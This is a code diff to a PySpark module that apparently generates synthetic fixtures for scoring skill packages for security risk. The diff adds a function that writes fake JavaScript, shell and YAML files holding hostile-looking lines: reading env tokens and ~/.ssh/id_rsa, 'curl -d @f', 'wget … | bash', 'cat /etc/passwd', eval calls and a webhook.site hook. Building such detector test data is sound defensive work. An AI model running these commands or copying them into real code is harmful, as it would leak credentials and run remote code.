@@ -107,7 +107,7 @@ def code_line() -> Column:
         .when(t == "error", F.when(F.col("cmd") != "", F.concat(F.lit('os.system("'), "cmd", F.lit('")')))
               .when(F.col("cmd_dynamic"), F.concat(F.lit("subprocess.run(cmd_"), ks, F.lit(")")))
               .otherwise(F.concat(F.lit('subprocess.run(["tool'), ks, F.lit('", "--n", arg])'))))
-        .when(t == "purchase", F.concat(F.lit('t = os.getenv("'), "var_name", F.lit('")')))
+        .when(t == "purchase", F.concat(F.lit('t = os.getenv("'), "var_name", F.lit('")'), F.when(F.col("k") % 25 == 0, "  # priority order").otherwise("")))
         .otherwise(F.concat(F.lit("eval(expr_"), ks, F.lit(")"))))
 
 
@@ -265,3 +265,18 @@ def component_scores(spark: SparkSession, sf: str) -> DataFrame:
         F.when(F.col("doc_id") % 3 == 0, 0.0).otherwise(v(47)).alias("s1"), F.when(F.col("doc_id") % 4 != 0, v(43)).alias("s4"), (F.col("doc_id") % 50 == 0).alias("injection"),
         (F.col("doc_id") % 11 == 0).alias("undeclared_exfil"), (F.col("doc_id") % 13 == 0).alias("critical_contract"), (F.col("doc_id") % 17 == 0).alias("complete_chain"),
         (F.col("doc_id") % 4).cast("long").alias("n_critical"), (F.col("doc_id") % 4).cast("long").alias("n_evidence"))
+
+
+def page_files(spark: SparkSession, sf: str) -> DataFrame:
+    """Pages as small JavaScript, shell and YAML files of their hosts' packages."""
+    p = urls(spark, sf).select("skill_id", F.col("pos").alias("page_id"), "url")
+    i = F.col("page_id")
+    n = i.cast("string")
+    js = F.concat(F.lit('const r = fetch("'), "url", F.lit('");\nchild_process.exec(c'), n, F.lit(");\nconst t = process.env['VAR_"), n, F.lit("']"),
+                  F.when(i % 4 == 0, F.lit(";\nconst k = process.env['token'];\nfs.readFile('/home/x/.ssh/id_rsa', f);")).otherwise(";"),
+                  F.when(i % 5 == 0, "\neval(code);").otherwise(""))
+    sh = F.concat(F.when(i % 2 == 0, "curl -d @f ").otherwise("wget "), "url", F.when(i % 7 == 0, " | bash").otherwise(""), F.lit("\ncat $1 /etc/passwd\n"))
+    ya = F.concat(F.when(i % 3 == 0, "permissions: all\n").otherwise("kind: plain\n"), F.lit("home: "), "url", F.when(i % 11 == 0, "\nhook: https://x.webhook.site/a").otherwise(""))
+    kind = F.floor(i / 3) % 3
+    path = F.concat(F.lit("p"), n, F.when(kind == 0, ".js").when(kind == 1, ".sh").otherwise(".yaml"))
+    return _as_files(p.select("skill_id", path.alias("path"), F.when(kind == 0, js).when(kind == 1, sh).otherwise(ya).alias("content")))
